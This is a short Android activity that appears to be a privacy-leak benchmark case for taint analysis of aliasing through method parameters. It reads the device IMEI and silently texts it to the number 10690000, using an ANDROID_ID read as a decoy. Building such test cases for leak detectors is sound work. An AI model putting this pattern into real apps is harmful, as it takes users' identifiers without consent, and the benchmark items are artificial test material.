package cn.privlens.suite.alias_by_parameters;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static class Slot { String v = "x"; }
    static String mix(Slot in, Slot out, String secret) {
        in.v = secret;
        return out.v;
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Slot a = new Slot();
        Slot b = new Slot();
        String harmless = mix(b, new Slot(), Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID));
        String got = mix(a, a, ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        SmsManager.getDefault().sendTextMessage("10690000", null, got + harmless.length(), null, null);
    }
}
